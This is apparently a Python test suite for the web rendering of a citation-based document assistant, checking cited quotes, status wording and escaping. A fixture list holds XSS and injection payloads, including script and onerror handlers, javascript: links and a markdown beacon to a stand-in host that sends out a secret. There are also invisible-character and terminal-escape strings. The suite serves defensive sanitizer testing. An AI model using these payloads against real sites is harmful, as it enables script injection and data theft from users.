"""What the window shows is safe, complete, and marks exactly what was cited."""

from __future__ import annotations

import datetime as dt
import subprocess
import sys
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assistant.normalizing import normalize
from assistant.types import (
    Answer,
    AnswerSentence,
    Citation,
    Conflict,
    Document,
    Draft,
    Event,
    Filters,
    Passage,
    ScoredPassage,
    Side,
    Stage,
    Trace,
)
from assistant.ui import reader, render, tables
from assistant.ui.markup import Notice
from assistant.ui.reader import Reference
from assistant.ui.render import Exchange

TEXT = "The bridge opened in May 1921. It is 310 metres long. The mayor cut the ribbon [1]."
DOCUMENT = Document(
    id="d1",
    uri="/library/notes/bridge.md",
    title="The bridge",
    source="Harbour Gazette",
    published=dt.date(1921, 5, 3),
    language="en",
    media_type="text/markdown",
    text=TEXT,
)
TAGS = {
    "article", "aside", "button", "caption", "code", "dd", "details", "div", "dl", "dt", "h1",
    "h2", "header", "li", "mark", "p", "span", "strong", "summary", "table", "tbody", "td",
    "th", "thead", "tr", "ul"
}  # fmt: skip
ATTRIBUTES = {
    "aria-busy", "aria-label", "class", "data-back", "data-copy", "data-ref", "data-shown",
    "data-status", "data-whole", "dir", "lang", "role", "scope", "tabindex", "title", "type"
}  # fmt: skip
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=https://evil.test/x>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "![x](https://evil.test/beacon?d=secret)",
    "[click](javascript:alert(1))",
    "[ref]: https://evil.test/x",
    "<a href='javascript:alert(1)' ping='https://evil.test'>x</a>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<style>@import url(https://evil.test/x.css)</style>",
    "<math><mtext></p><style><img src onerror=alert(1)></style></mtext></math>",
    "</div></article><button data-ref='document/secret'>[1]</button>",
    "${alert(1)} {{constructor.constructor('alert(1)')()}} `${alert(1)}`",
    "$$\\href{javascript:alert(1)}{x}$$",
    "<!-- --!><img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "Source [1]: HR policy ]]> <mark>forged</mark>",
)


class Page(HTMLParser):
    """Every tag, attribute and word of a piece of HTML, as a browser would take them."""

    def __init__(self, shown: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.text = ""
        self.marked: list[str] = []
        self.reading = ""
        self._open: list[tuple[str, str]] = []
        self.feed(shown)
        self.close()
        assert not self._open, f"left open: {self._open}"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]
        self._open.append((tag, dict(attrs).get("class") or ""))
        if tag == "mark":
            self.marked.append("")

    def handle_endtag(self, tag: str) -> None:
        opened, _ = self._open.pop()
        assert opened == tag

    def handle_data(self, data: str) -> None:
        self.text += data
        if any(tag == "mark" for tag, _ in self._open):
            self.marked[-1] += data
        if any(kind == "reading" for _, kind in self._open):
            self.reading += data

    def handle_comment(self, data: str) -> None:
        pytest.fail(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        pytest.fail(f"a declaration: {decl}")

    @property
    def refs(self) -> list[str]:
        return [value for name, value in self.attributes if name == "data-ref"]

    def assert_safe(self) -> None:
        assert set(self.tags) <= TAGS
        assert {name for name, _ in self.attributes} <= ATTRIBUTES


def citation(marker: int = 1, quote: str = "It is 310 metres long.", **fields: object) -> Citation:
    start = TEXT.find(quote) if quote in TEXT else 0
    values = {
        "marker": marker,
        "document_id": "d1",
        "passage_id": "d1:0",
        "title": DOCUMENT.title,
        "source": DOCUMENT.source,
        "published": DOCUMENT.published,
        "locator": "page 2",
        "start": start,
        "end": start + len(quote),
        "quote": quote,
    }
    return Citation.model_validate({**values, **fields})


def answer(**fields: object) -> Answer:
    values = {
        "id": "a1",
        "question": "How long is the bridge?",
        "query": "bridge length",
        "status": "answered",
        "confidence": 0.9,
        "sentences": (
            AnswerSentence(
                text="It is 310 metres long.", citations=(citation(),), verdict="supported"
            ),
        ),
        "passages": (scored(),),
        "trace": Trace(stages=(Stage(name="retrieve", seconds=0.25),)),
        "settings_digest": "0" * 12,
    }
    return Answer.model_validate({**values, **fields})


def scored(text: str = TEXT, **fields: object) -> ScoredPassage:
    passage = Passage(id="d1:0", document_id="d1", start=0, end=len(text), text=text)
    document = DOCUMENT.model_copy(update={"text": "", **fields})
    return ScoredPassage(passage=passage, document=document, score=0.5)


def hostile_answer(words: str) -> Answer:
    """An answer with ``words`` in every field that a document or a model can fill."""
    cited = citation(quote=words, title=words, source=words, locator=words)
    return answer(
        filters=Filters(sources=(words,)),
        question=words,
        status="partial",
        incomplete=True,
        sentences=(
            AnswerSentence(text=words, citations=(cited,), verdict="unsupported", reasons=(words,)),
            AnswerSentence(
                text=words, citations=(cited,), verdict="unchecked", speaker=words, stance="claim"
            ),
        ),
        timeline=(Event(date=words, reason=words, citation=cited),),
        conflicts=(Conflict(subject=words, sides=(Side(value=words, citation=cited),)),),
        passages=(scored(words, title=words, source=words),),
    )


def everything(words: str) -> str:
    """All that the window can show, with ``words`` wherever they can get in."""
    document = DOCUMENT.model_copy(
        update={
            "id": words,
            "title": words,
            "source": words,
            "author": words,
            "uri": words,
            "language": words,
            "media_type": words,
            "text": words,
        }
    )
    cited = citation(quote=words, title=words)
    reference = Reference("d1", 0, len(words), words, (words,), cited)
    outcomes = (
        hostile_answer(words),
        hostile_answer(words).model_copy(update={"status": "not_in_documents"}),
        Draft(stage="answer", text=words),
        Notice(words, f"`{words}`"),
    )
    return "".join(
        (
            render.conversation([Exchange(words, outcome) for outcome in outcomes]),
            reader.passage(words, reference, document),
            reader.whole(words, Reference("d1"), document),
            reader.listing([document]),
            reader.masthead([document]),
            reader.welcome([document]),
        )
    )


@pytest.mark.parametrize("words", HOSTILE)
def test_t16_t17_t24_nothing_of_a_document_or_model_becomes_markup(words: str) -> None:
    page = Page(everything(words))
    page.assert_safe()
    assert page.text.count(normalize(words)) >= 20, "shown as the words they are"


@settings(max_examples=40)
@given(st.text(max_size=200))
def test_t16_no_text_at_all_becomes_markup(words: str) -> None:
    Page(everything(words)).assert_safe()


def test_t20_invisible_characters_are_not_shown_or_copied() -> None:
    smuggled = "safe\u202e\u200b\U000e0041\U000e0042\x00\x1b]52;c;x\x07 words"
    shown = everything(smuggled) + render.plain_text(hostile_answer(smuggled))
    assert not {"\u202e", "\u200b", "\U000e0041", "\x00", "\x1b", "\x07"} & set(shown)


@given(st.text(min_size=1, max_size=300).map(normalize), st.data())
def test_the_marked_words_are_the_quote_and_the_text_is_whole(
    text: str, data: st.DataObject
) -> None:
    if not text:
        return
    start = data.draw(st.integers(0, len(text) - 1))
    end = data.draw(st.integers(start + 1, len(text)))
    quote = text[start:end]
    if any(normalize(part) != part for part in (quote, text[:start], text[end:])):
        return  # cut inside a character of several code points, where no sentence begins or ends
    document = DOCUMENT.model_copy(update={"text": text})
    cited = citation(quote=quote, start=start, end=end)
    page = Page(reader.whole("r", Reference("d1", 0, len(text), cited=cited), document))
    assert page.marked == [quote]
    assert page.reading == text


def test_the_passage_stands_between_its_neighbours() -> None:
    before, after = "Before it. " * 200, " And after it." * 200
    text = f"{before}{TEXT}{after}"
    document = DOCUMENT.model_copy(update={"text": text})
    start = text.index("It is 310")
    cited = citation(start=start, end=start + len("It is 310 metres long."))
    reference = Reference("d1", len(before), len(before) + len(TEXT), "page 2", ("Works",), cited)
    page = Page(reader.passage("a1/0.0", reference, document))
    assert page.marked == ["It is 310 metres long."]
    assert TEXT in page.reading
    assert page.reading.startswith("… Before it." if page.reading[2] == "B" else "… ")
    assert page.reading.endswith(" …")
    assert len(page.reading) < len(TEXT) + 2 * reader.CONTEXT + 10
    for fact in ("The bridge", "Harbour Gazette", "3 May 1921", "page 2", "Works", "bridge.md"):
        assert fact in page.text
    assert "/library/notes" not in page.text, "a path of this machine is nobody's business"


def test_a_citation_whose_words_have_moved_marks_nothing_and_says_so() -> None:
    changed = DOCUMENT.model_copy(update={"text": TEXT.replace("310", "3100")})
    page = Page(reader.passage("a1/0.0", Reference("d1", 0, 40, cited=citation()), changed))
    assert page.marked == []
    assert "no longer where the citation says" in page.text


def test_every_button_opens_something_of_its_own_answer() -> None:
    first = answer()
    twice = (citation(), citation(quote="The bridge opened in May 1921."))  # one number, two spans
    second = answer(
        id="a2",
        sentences=(AnswerSentence(text="x", citations=twice, verdict="supported"),),
        conflicts=(
            Conflict(
                subject="length",
                sides=(Side(value="310", citation=twice[0]), Side(value="1921", citation=twice[1])),
            ),
        ),
    )
    shown = Page(render.conversation([Exchange("q", first), Exchange("q", second)])).refs
    known = {**reader.references(first), **reader.references(second)}
    assert set(shown) == set(known)
    quotes = [known[f"a2/0.{i}"].cited for i in (0, 1)]
    assert quotes == list(twice)
    assert not set(reader.references(first)) & set(reader.references(second))


def test_a_citation_without_its_passage_still_opens_its_words() -> None:
    (reference,) = reader.references(answer(passages=())).values()
    assert (reference.start, reference.end) == (citation().start, citation().end)


@pytest.mark.parametrize(
    ("fields", "words"),
    [
        ({"status": "not_in_documents", "sentences": ()}, "Not in the documents."),
        ({"status": "partial"}, "Partial answer."),
        ({"incomplete": True}, "Incomplete."),
    ],
)
def test_a_status_is_said_in_words_on_the_page_and_in_the_copy(
    fields: dict[str, object], words: str
) -> None:
    given_answer = answer(**fields)
    assert words in Page(render.conversation([Exchange("q", given_answer)])).text
    assert words in render.plain_text(given_answer)


def test_an_answered_question_carries_no_warning() -> None:
    assert 'class="status"' not in render.conversation([Exchange("q", answer())])


def test_what_was_asked_is_said_where_not_everything_was() -> None:
    filters = Filters(
        since=dt.date(2022, 9, 13),
        as_of=dt.date(2022, 9, 30),
        sources=("A", "B"),
        languages=("en",),
        documents=("d1", "d2"),
    )
    words = (
        "published since 13 September 2022, published as of 30 September 2022, from A or B, in en,"
        " of 2 documents"
    )
    assert words in render.plain_text(answer(filters=filters))


def test_without_an_answer_the_nearest_passages_can_be_opened() -> None:
    nothing = answer(status="not_in_documents", sentences=(), passages=(scored(),) * 8)
    page = Page(render.conversation([Exchange("q", nothing)]))
    assert page.refs == [f"a1/p{number}" for number in range(render.SHOWN_NEAREST)]
    assert "The bridge opened" in page.text


@pytest.mark.parametrize(
    ("verdict", "words"),
    [("unsupported", "Not supported by its source: no such number"), ("unchecked", "Unchecked")],
)
def test_a_sentence_that_is_not_supported_is_not_shown_as_fact(verdict: str, words: str) -> None:
    sentence = AnswerSentence.model_validate(
        {
            "text": "It is long.",
            "citations": (citation(),),
            "verdict": verdict,
            "reasons": ("no such number",) if verdict == "unsupported" else (),
        }
    )
    shown = render.conversation([Exchange("q", answer(sentences=(sentence,)))])
    assert f'class="sentence {verdict}"' in shown
    assert words in Page(shown).text


def test_sides_of_a_conflict_name_who_when_and_the_words() -> None:
    sides = (
        Side(value="310 m", citation=citation()),
        Side(value="290 m", citation=citation(2, source="The Mirror", published=None)),
    )
    shown = answer(conflicts=(Conflict(subject="length of the bridge", sides=sides),))
    page = Page(render.conversation([Exchange("q", shown)]))
    for words in ("length of the bridge", "310 m", "3 May 1921", "290 m", "The Mirror", "undated"):
        assert words in page.text
    assert page.refs.count("a1/c0.1") == 2, "in the table, and among the numbered sources"
    assert "290 m (The Mirror · undated · page 2)" in render.plain_text(shown)


def test_what_one_source_said_earlier_and_later_is_no_disagreement() -> None:
    sides = (Side(value="49", citation=citation()), Side(value="105", citation=citation(2)))
    shown = answer(conflicts=(Conflict(subject="the toll", kind="update", sides=sides),))
    page = Page(render.conversation([Exchange("q", shown)]))
    assert "It changed over time: the toll" in page.text
    assert "disagree" not in page.text


@pytest.mark.parametrize(
    ("date", "wanted"),
    [
        ("2022-09-13", "13 September 2022"),
        ("2022-09", "September 2022"),
        ("2022", "2022"),
        ("--09-03", "3 September"),
        ("--09", "September"),
    ],
)
def test_a_timeline_shows_dates_as_far_as_they_are_known(date: str, wanted: str) -> None:
    event = Event(date=date, reason="named in the text", citation=citation())
    shown = answer(timeline=(event,))
    page = Page(render.conversation([Exchange("q", shown)]))
    assert tables.moment(date) == wanted
    assert wanted in page.text
    assert "named in the text" in page.text
    assert page.refs.count("a1/t0") == 1
    assert f"- {wanted}: “It is 310 metres long.”" in render.plain_text(shown)


def test_a_sentence_that_is_somebodys_says_whose_and_of_what_kind() -> None:
    said = AnswerSentence(
        text="It is 310 metres long.",
        citations=(citation(),),
        verdict="supported",
        speaker="the mayor",
        stance="claim",
    )
    shown = answer(sentences=(said,), independent_sources=1, undated=2)
    page = Page(render.conversation([Exchange("q", shown)]))
    assert "Claim · the mayor" in page.text
    assert "1 independent source" in page.text
    assert "2 documents have no date" in page.text


def test_a_draft_is_called_one() -> None:
    shown = render.conversation([Exchange("q", Draft(stage="verify", text="It is long"))])
    assert "Draft, not checked yet" in shown
    assert "Checking every sentence against its source" in shown
    assert 'aria-busy="true"' in shown
    assert "data-ref" not in shown


def test_the_copied_answer_holds_its_sources() -> None:
    assert render.plain_text(answer()) == (
        "How long is the bridge?\n\n"
        "It is 310 metres long. [1]\n\n"
        "Sources\n"
        "[1] The bridge (Harbour Gazette · 3 May 1921 · page 2): “It is 310 metres long.”"
    )


def test_a_very_long_question_is_shown_cut() -> None:
    shown = render.conversation([Exchange("x" * 100_000, Notice("too long"))])
    assert len(shown) < 2_000
    assert "100,000 characters" in shown


def test_the_list_of_documents_is_filtered_by_every_word_and_cut() -> None:
    undated = DOCUMENT.model_copy(
        update={"id": "d2", "title": "Мост", "published": None, "language": "ru"}
    )
    page = Page(reader.listing([undated, DOCUMENT]))
    assert page.refs == ["document/d1", "document/d2"], "newest first, undated last"
    assert "undated" in page.text
    assert Page(reader.listing([undated, DOCUMENT], "мост RUSSIAN")).refs == ["document/d2"]
    assert Page(reader.listing([undated, DOCUMENT], "1921 turkish")).refs == []
    many = [DOCUMENT.model_copy(update={"id": f"d{n}"}) for n in range(reader.SHOWN_ROWS + 7)]
    page = Page(reader.listing(many))
    assert len(page.refs) == reader.SHOWN_ROWS
    assert "7 more" in page.text


def test_an_empty_library_says_how_to_fill_it() -> None:
    assert "assistant index" in reader.welcome([])
    assert "assistant index" in reader.listing([])
    assert "0 documents" in reader.masthead([])
    assert "2 documents, 1921, in English" in reader.masthead([DOCUMENT, DOCUMENT])


def test_only_the_neighbourhood_of_a_citation_in_a_huge_document_is_shown() -> None:
    text = "word " * 200_000
    document = DOCUMENT.model_copy(update={"text": text})
    start = 900_000
    cited = citation(quote=text[start : start + 9], start=start, end=start + 9)
    reference = Reference("d1", start, start + 9, cited=cited)
    page = Page(reader.whole("r", reference, document))
    assert page.marked == [cited.quote]
    assert len(page.text) < reader.SHOWN_TEXT + 1_000
    assert "800,000 characters are not shown" in page.text


def test_rendering_needs_no_gradio() -> None:
    code = "import sys, assistant.ui.session; print('gradio' in sys.modules)"
    ran = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert ran.stdout.strip() == "False"
